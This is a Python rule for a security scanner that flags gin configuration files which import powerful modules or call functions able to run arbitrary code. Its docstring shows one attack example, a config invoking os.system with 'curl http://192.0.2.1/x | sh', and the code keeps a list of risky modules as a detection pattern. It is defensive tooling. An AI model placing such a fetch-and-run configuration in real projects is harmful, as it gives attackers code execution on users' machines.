"""A gin configuration imports or calls what no configuration needs.

## Why it matters
Gin imports the modules that a configuration names while it reads it, and calls what stands behind `@`, with arguments
that the configuration sets. With dynamic registration that is any function of any module.

## Example
`import os` and `train.logger = @os.system()` with `os.system.command = 'curl http://192.0.2.1/x | sh'`.

## Remedy
Do not parse it. Have gin configurations name only functions of your own project, and read them before use.

## References
gin-config, *Dynamic registration*, *Importing modules in config files*. CWE-470.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Final

from assay.core import threat
from assay.core.finding import Confidence, Severity
from assay.formats.repository.text import Text
from assay.scan.knowledge.text import shown
from assay.scan.rule import Hit, Rule
from assay.scan.surroundings.gin import Line, lines
from assay.scan.surroundings.names import KNOWN_PACKAGES, judge
from assay.scan.surroundings.paths import leaves

#: Modules with which a configuration can do anything at all.
_POWERFUL: Final = frozenset(
    (
        "os", "posix", "nt", "subprocess", "sys", "builtins", "importlib", "shutil", "pty", "ctypes", "socket",
        "pickle", "runpy", "code", "marshal", "urllib", "http", "ftplib", "multiprocessing", "pip", "webbrowser",
        "requests", "httpx", "paramiko", "telnetlib", "smtplib", "cffi", "antigravity", "this", "timeit", "pdb",
    )
)  # fmt: skip
#: Where gin is at home.
_OWN: Final = KNOWN_PACKAGES | {
    "gin", "__gin__", "__main__", "t5", "t5x", "seqio", "mesh_tensorflow", "tensor2tensor", "tf_agents", "trax",
    "dopamine", "alf", "ddsp", "magenta", "prompt_tuning", "flaxformer", "clu", "chex", "haiku", "sonnet", "acme",
    "rlds", "tensorflow_datasets", "tensorflow_probability", "tensorflow_gan", "tensorflow_addons", "math", "functools",
    "typing", "pathlib", "datetime", "random", "itertools",
}  # fmt: skip


def check(view: Text) -> Iterator[Hit]:
    """Imports, calls and settings, each once."""
    told: set[tuple[str, str]] = set()
    for line in lines(view):
        hit = _hit(line)
        if hit is not None and (line.kind, line.name) not in told:
            told.add((line.kind, line.name))
            yield hit


def _hit(line: Line) -> Hit | None:
    if line.kind == "import":
        top = line.name.partition(".")[0]
        if top in _POWERFUL and line.name != "os.path":
            return Hit(f"it imports {line.name}", line=line.number, severity=Severity.MEDIUM)
        known = top in _OWN
        return None if known else Hit(f"it imports {line.name}", line=line.number, severity=Severity.LOW)
    if line.kind == "include":
        outside = leaves(line.name) or "://" in line.name
        message = f"it includes {shown(line.name)}, which lies elsewhere"
        return Hit(message, line=line.number, severity=Severity.LOW) if outside else None
    judged = judge(line.name)
    if judged is None or not judged.known or judged.severity < Severity.MEDIUM:
        return None
    does = "has called" if line.kind == "call" else "sets arguments of"
    message = f"it {does} {line.name}, which {judged.does}"
    return Hit(message, line=line.number, severity=judged.severity, confidence=judged.confidence)


RULE = Rule(
    id="gin-runs-code",
    reads=Text.kind,
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    threats=threat.REMOTE_CODE,
    check=check,
    doc=__doc__,
)
